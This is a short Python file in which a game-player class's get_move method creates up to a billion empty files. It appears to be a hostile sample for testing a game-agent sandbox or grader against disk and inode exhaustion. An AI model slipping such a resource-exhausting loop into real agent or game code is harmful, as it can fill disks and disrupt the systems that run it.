"""Makes files without end, all of them empty."""


class CustomPlayer:
    def get_move(self, game, time_left):
        for number in range(10**9):
            open(f"file{number}", "w").close()
